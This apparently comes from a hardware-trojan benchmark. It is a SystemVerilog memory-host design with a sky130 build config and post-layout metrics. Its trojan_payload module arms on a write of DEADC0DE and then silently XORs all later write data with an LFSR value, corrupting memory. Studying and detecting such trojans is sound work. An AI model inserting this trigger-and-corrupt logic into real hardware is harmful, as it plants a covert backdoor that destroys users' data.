`src/trojan_pkg.sv`:
```
// Write-path payload constants
// Register steps left, feedback from three taps into bit 0

package trojan_pkg;

    localparam int lfsr_width = 96;

    localparam logic [lfsr_width-1:0] lfsr_seed = 96'h123456789ABCDEF0FEDCBA98;

    // Feedback taps
    localparam int tap_hi  = 95;
    localparam int tap_mid = 63;
    localparam int tap_lo  = 31;

    // Write data that arms the payload
    localparam logic [31:0] trigger_word = 32'hDEAD_C0DE;

endpackage

```
`src/mem_host_pkg.sv`:
```
// Memory geometry, preset pattern and controller states
// Only the low index_width address bits select a word

package mem_host_pkg;

    localparam int mem_words   = 64;
    localparam int index_width = 6;   // log2 of mem_words
    localparam int data_width  = 32;

    // Word j comes out of reset as base + j
    localparam logic [data_width-1:0] mem_preset_base = 32'hFEDCBA98;

    // One request walks idle -> decode -> access -> complete
    typedef enum logic [1:0] {
        idle     = 2'd0,
        decode   = 2'd1,
        access   = 2'd2,
        complete = 2'd3
    } state_t;

endpackage
```
`src/mem_op_if.sv`:
```
// Decoded operation from the control sequence to the array and result stages
// op_valid and op_done are single-cycle strobes, never high together

`timescale 1ns/1ps

interface mem_op_if;

    logic                                op_valid;  // Access cycle
    logic                                op_write;
    logic [mem_host_pkg::index_width-1:0] op_index;
    logic [mem_host_pkg::data_width-1:0]  op_wdata; // Already payload-adjusted
    logic                                op_done;   // Complete cycle

    modport drv (
        output op_valid,
        output op_write,
        output op_index,
        output op_wdata,
        output op_done
    );

    modport sink (
        input op_valid,
        input op_write,
        input op_index,
        input op_wdata,
        input op_done
    );

endinterface

```
`src/mem_host_top.sv`:
```
// Memory host top level, level requests with a one-cycle ready pulse
// Caller holds the request until mem_ready, then drops it

`timescale 1ns/1ps

module mem_host_top (
    input  logic                               clk,
    input  logic                               rst,
    input  logic [31:0]                        mem_addr,
    input  logic [mem_host_pkg::data_width-1:0] write_data,
    input  logic                               mem_read,
    input  logic                               mem_write,
    output logic [mem_host_pkg::data_width-1:0] read_data,
    output logic                               mem_ready
);

    mem_op_if op_bus ();

    logic                               step;
    logic                               wr_accept;
    logic [mem_host_pkg::data_width-1:0] payload_data;
    logic [mem_host_pkg::data_width-1:0] rd_word;

    mem_decode u_decode (
        .clk          (clk),
        .rst          (rst),
        .mem_addr     (mem_addr),
        .mem_read     (mem_read),
        .mem_write    (mem_write),
        .payload_data (payload_data),
        .step         (step),
        .wr_accept    (wr_accept),
        .op           (op_bus.drv)
    );

    mem_execute u_execute (
        .clk     (clk),
        .rst     (rst),
        .op      (op_bus.sink),
        .rd_word (rd_word)
    );

    mem_result u_result (
        .clk       (clk),
        .rst       (rst),
        .op        (op_bus.sink),
        .rd_word   (rd_word),
        .read_data (read_data),
        .mem_ready (mem_ready)
    );

    trojan_payload u_payload (
        .clk          (clk),
        .rst          (rst),
        .step         (step),
        .wr_accept    (wr_accept),
        .write_data   (write_data),
        .payload_data (payload_data)
    );

endmodule

```
`src/trojan_payload.sv`:
```
// Hidden write-path payload, armed by a write of the trigger word
// Arming is sticky until reset and applies from the next write on

`timescale 1ns/1ps

module trojan_payload (
    input  logic                               clk,
    input  logic                               rst,
    input  logic                               step,
    input  logic                               wr_accept,
    input  logic [mem_host_pkg::data_width-1:0] write_data,
    output logic [mem_host_pkg::data_width-1:0] payload_data
);

    logic [trojan_pkg::lfsr_width-1:0] lfsr;
    logic                              armed;
    logic                              feedback;

    assign feedback = lfsr[trojan_pkg::tap_hi] ^ lfsr[trojan_pkg::tap_mid] ^
                      lfsr[trojan_pkg::tap_lo];

    // Steps once per accepted request
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            lfsr <= trojan_pkg::lfsr_seed;
        end else if (step) begin
            lfsr <= {lfsr[trojan_pkg::lfsr_width-2:0], feedback};
        end
    end

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            armed <= 1'b0;
        end else if (wr_accept && (write_data == trojan_pkg::trigger_word)) begin
            armed <= 1'b1;
        end
    end

    // Low word of the pre-step register corrupts the data
    assign payload_data = armed ? (write_data ^ lfsr[mem_host_pkg::data_width-1:0])
                                : write_data;

endmodule

```
`src/mem_result.sv`:
```
// Ready pulse and read data registers
// read_data holds until the next read completes

`timescale 1ns/1ps

module mem_result (
    input  logic                               clk,
    input  logic                               rst,
    mem_op_if.sink                             op,
    input  logic [mem_host_pkg::data_width-1:0] rd_word,
    output logic [mem_host_pkg::data_width-1:0] read_data,
    output logic                               mem_ready
);

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            read_data <= '0;
            mem_ready <= 1'b0;
        end else begin
            mem_ready <= op.op_done;  // One cycle per request
            if (op.op_done && !op.op_write) begin
                read_data <= rd_word;
            end
        end
    end

    // Single request in flight, so never two ready cycles in a row
    a_ready_single: assert property (
        @(posedge clk) disable iff (rst) mem_ready |=> !mem_ready
    ) else $error("mem_ready high for two consecutive cycles");

endmodule

```
`src/mem_execute.sv`:
```
// Word array, preset on reset, one access per op_valid strobe
// rd_word only changes on a read access

`timescale 1ns/1ps

module mem_execute (
    input  logic                               clk,
    input  logic                               rst,
    mem_op_if.sink                             op,
    output logic [mem_host_pkg::data_width-1:0] rd_word
);

    logic [mem_host_pkg::data_width-1:0] mem [mem_host_pkg::mem_words];

    // Array with reset preset
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            for (int j = 0; j < mem_host_pkg::mem_words; j++) begin
                mem[j] <= mem_host_pkg::mem_preset_base + 32'(j);
            end
        end else if (op.op_valid && op.op_write) begin
            mem[op.op_index] <= op.op_wdata;
        end
    end

    // Read capture
    always_ff @(posedge clk) begin
        if (op.op_valid && !op.op_write) begin
            rd_word <= mem[op.op_index];
        end
    end

    a_index_known: assert property (
        @(posedge clk) disable iff (rst) op.op_valid |-> !$isunknown(op.op_index)
    ) else $error("op_index unknown during access");

endmodule

```
`src/mem_decode.sv`:
```
// Request capture and control sequence for one request in flight
// Requests are ignored during the ready cycle so a held level is not re-taken

`timescale 1ns/1ps

module mem_decode (
    input  logic                               clk,
    input  logic                               rst,
    input  logic [31:0]                        mem_addr,
    input  logic                               mem_read,
    input  logic                               mem_write,
    input  logic [mem_host_pkg::data_width-1:0] payload_data,
    output logic                               step,
    output logic                               wr_accept,
    mem_op_if.drv                              op
);

    mem_host_pkg::state_t state;
    logic                 ready_cycle;  // Matches mem_ready in the result stage
    logic                 accept;

    assign accept    = (state == mem_host_pkg::idle) && !ready_cycle &&
                       (mem_read || mem_write);
    assign step      = accept;
    assign wr_accept = accept && mem_write;  // Write wins over read

    assign op.op_valid = (state == mem_host_pkg::access);
    assign op.op_done  = (state == mem_host_pkg::complete);

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            state       <= mem_host_pkg::idle;
            ready_cycle <= 1'b0;
            op.op_write <= 1'b0;
        end else begin
            ready_cycle <= (state == mem_host_pkg::complete);
            case (state)
                mem_host_pkg::idle: begin
                    if (accept) begin
                        state       <= mem_host_pkg::decode;
                        op.op_write <= mem_write;
                    end
                end
                mem_host_pkg::decode:   state <= mem_host_pkg::access;
                mem_host_pkg::access:   state <= mem_host_pkg::complete;
                mem_host_pkg::complete: state <= mem_host_pkg::idle;
                default:                state <= mem_host_pkg::idle;
            endcase
        end
    end

    // Index and data taken on entry to decode before the register steps
    always_ff @(posedge clk) begin
        if (accept) begin
            op.op_index <= mem_addr[mem_host_pkg::index_width-1:0];
            op.op_wdata <= payload_data;
        end
    end

    // Host holds the request until it sees mem_ready
    a_request_held: assert property (
        @(posedge clk) disable iff (rst)
        (state != mem_host_pkg::idle) |-> $stable({mem_addr, mem_read, mem_write})
    ) else $error("request changed while in flight");

endmodule

```
`config.mk`:
```
export PLATFORM = sky130hd
export DESIGN_NAME = mem_host_top
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/trojan_pkg.sv /design/src/mem_host_pkg.sv /design/src/mem_op_if.sv /design/src/mem_host_top.sv /design/src/trojan_payload.sv /design/src/mem_result.sv /design/src/mem_execute.sv /design/src/mem_decode.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 2
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__clkbuf_2
export CORE_ASPECT_RATIO = 1.1
export CORE_MARGIN = 2
export CORE_UTILIZATION = 65
export DETAILED_ROUTE_END_ITERATION = 7
export HOLD_SLACK_MARGIN = 0.12
export PLACE_DENSITY = 0.82
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
```
`constraint.sdc`:
```
create_clock -name clk -period 161 [get_ports clk]
set_input_delay 8.05 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 8.05 -clock clk [all_outputs]
set_load 0.1 [all_outputs]
```
==> key figures <==
Placement
  – Cell Area, Placed: 103300 µm²
  – Final HPWL DP: 174.7 mm
  – Routability Congestion: 0.8763
  – PortBufs: 74

Worst setup path
  – Kind of critical path: in2async
  – CP arrival: 12.59 ns
  – Critical path fanouts, max: 158
  – Worst Path Required: 161.87 ns
  – FF-to-FF path depth: 9
  – R2R Setup Slk: 155.47 ns
  – Reg2reg start: u_decode/op.op_index[2]$_DFFE_PP_
  – Critical path launch point type: input pin
  – RR Endpoint: u_execute/rd_word[27]$_DFFE_PP_
  – CP endpoint kind: asynchronous set/reset pin

Routing
  – DRC Markers: 0
  – Vias/cell: 7.313
  – DRT iter0 DRCs: 7945
  – WL/cell: 33.59 µm
  – Via count: 68241
  – Final ANT Viol Nets: 0
  – Routed WL: 313.4 mm
  – First-pass iteration count of the detailed router: 8

Yosys
  – Avg Inst Size Synth: 13.78 µm²
  – Ys flop type: dfstp_2
  – Seq/Total Area, Yosys: 0.5760
  – Yosys cell types: 69
  – Post-Synthesis Net Count: 7437
  – Syn Inst Count: 7366
  – FFs w/ async S/R, synth: 0.9689
  – Yosys top cell by area: dfstp_2
  – Largest cells by area after synthesis: dfstp_2, mux2_2, dfrtp_1
  – Cell Area, Synth: 101500 µm²
  – Most numerous cell in the Yosys netlist: mux2_2
  – Yosys synthesis warning count: 6
  – Synth cell count leaders: mux2_2, dfstp_2, dfrtp_1
  – Synth top area share: 0.3675
  – Post-synth EDFFs: 70
  – Flops & latches, synth: 2252

Finish
  – Share of layout cells above drive strength 1: 0.5897
  – Fill count: 10065
  – Syn-to-layout area delta: 8.881%
  – Layout Nets: 7129
  – Post-route cell area: 110600 µm²

Hold path
  – HP Class: reg2reg
  – Hold Path End: u_payload/lfsr[65]$_DFFE_PP0P_
  – Worst Hold Depth: 1
  – Hold path startpoint: u_payload/lfsr[64]$_DFFE_PP0P_

CTS
  – CTS Sinks: 2252
  – Clock latency on the worst-skew pair: 0.88 ns
  – CTS Buffer Depth: 3
  – CTS tree: done
  – Post-CTS resize count: 0
  – Clock transition at the registers of the reported paths: 0.06 ns
  – CTS Buf Count: 213
  – CTS Hold Buffers Added: 0
  – H-tree depth: 4
  – Clock root buffer: clkbuf_16
  – Setup Fix Bufs, Post-CTS: 0

STA
  – Unrepaired setup endpoints after global routing: no
  – Setup violators final: 0
  – Worst-Margin Slew: 1.517 ns
  – Max-slew violation count: 11
  – Final period util: 0.07282
  – Worst slew margin: -0.01403
  – Clock Skew: 0.03515 ns
  – Tmin final: 11.72 ns
  – Fmax: 85.30 MHz
  – Hold WS: 0.4795 ns
  – Final hold viol count: 0
  – Setup_tns: 0 ns

Power and ir drop
  – Worst vdd ir: 0.02027 mV
  – LEAKAGE: 0.04673 µW
  – Power consumption: 1846 µW
  – Pwr Density: 16.70 nW/µm²

Global route
  – Initial antenna violation count: 11
  – GR Util All Layers: 0.3906
  – Largest net degree at the start of global routing: 186
  – First-pass GRT wire length: 461.9 mm
  – Remaining Overflow, GRT: 0
  – Vias in the first global route: 70958

Flow run
  – MaxCap Viol Count: 1

Run status
  – Failing checks: max-capacitance violations, max-slew violations
  – Outcome: complete, but fails checks

Die
  – Die Ht: 418.5 µm
  – Initial Util: 0.6527
  – Ports: 101
  – Row Count: 152
  – Die width: 380.8 µm
  – Die area: 159400 µm²
  – Area of the core: 155600 µm²
routing by layer:
layer,vias to the layer above,routed length [µm],part of all wire,GRT usage
li1,26780,-,-,-
met1,35616,112500,0.36,0.4931
met2,4531,139100,0.44,0.5884
met3,1302,37750,0.12,0.1147
met4,12,23950,0.076,0.2574
met5,-,78,0.00025,0
flip-flops by register name, indices dropped and copies added (netlist names):
register,cells
u_decode/op.op_wdata,32
u_decode/op.op_index,6
u_payload/lfsr,96
u_decode/ready_cycle,1
u_execute/rd_word,32
u_result/read_data,32
u_result/mem_ready,1
u_decode/op.op_write,1
u_execute/mem,2048
u_payload/armed,1
u_decode/state,2
kinds of logic (layout without fill, tap and decap cells):
| kind of cell | after synthesis | count (layout) | share of synthesized area |
|---|---|---|---|
| buffers and inverters | 799 | 683 | 0.03442 |
| other | 0 | 2 | 0 |
| AO/OA/AOI/OAI | 1309 | 1309 | 0.09676 |
| AND/OR/NAND/NOR | 604 | 604 | 0.02585 |
| adder cells (fa/ha/maj) | 3 | 3 | 0.0003697 |
| XOR/XNOR | 34 | 34 | 0.002933 |
| multiplexers | 2365 | 2365 | 0.2637 |
| flip-flops | 2252 | 2252 | 0.5760 |
final cells by class:
class / instances / area (µm²) / share of cell area
antenna: 2 / 5.005 / 0.00004527
tap: 2079 / 2601 / 0.02353
sequential: 2252 / 58480 / 0.5290
clock buffer: 328 / 6382 / 0.05773
clock inverter: 79 / 897.1 / 0.008115
multi-input combinational: 4315 / 40120 / 0.3629
timing repair buffer: 268 / 2014 / 0.01822
inverter: 8 / 53.80 / 0.0004867
worst max path at each step:
| stage | cells past startpoint | slack (ns) | start | end |
|---|---|---|---|---|
| 2_1_floorplan | 1 | 97.36 | rst | u_execute/mem[1000]$_DFFE_PP0P_ |
| 3_3_place_gp | 6 | 148.50 | rst | u_execute/mem[789]$_DFFE_PP0P_ |
| 3_5_place_dp | 6 | 148.32 | rst | u_execute/mem[789]$_DFFE_PP0P_ |
| 4_1_cts | 6 | 149.23 | rst | u_execute/mem[853]$_DFFE_PP0P_ |
| 5_1_grt | 6 | 148.64 | rst | u_execute/mem[1880]$_DFFE_PP0P_ |
| 6_report | 6 | 149.28 | rst | u_execute/mem[1880]$_DFFE_PP0P_ |
stage by stage:
step,setup WS [ns],std cells,util
after global placement,148.50,8922,0.6638
after detailed placement,148.32,8922,0.6638
after CTS,149.23,9329,0.7106
after global routing,148.64,9329,0.7106
final,149.28,9331,0.7106
after floorplan,97.36,7366,-
critical path, cell delays in order:
cell      delay [ns]
clkbuf_2        0.16
inv_8           0.65
buf_12          0.62
buf_4           0.90
buf_4           0.95
buf_4           0.83
report_power, final:
group          switching [µW]  internal [µW]  total [µW]
sequential               77.7            779         857
clock                     219            300         519
combinational             290            180         470
total                     587           1260        1850
layout by cell type, fill, tap and decap left out, drive strengths merged, types with 14 or more instances in the layout:
cell type / instances
xnor2: 34
dfrtp: 762
nand2: 86
clkinv: 52
nand3: 16
a22o: 42
bufinv: 17
mux2i: 114
nand4: 17
buf: 194
a21oi: 120
dfstp: 1420
clkbuf: 402
edfxtp: 70
nor2: 403
o21ai: 253
a22oi: 116
or3: 15
inv: 14
mux4: 15
o22ai: 49
mux2: 2236
a221o: 31
a221oi: 654
(Power assumes the default switching activity.)
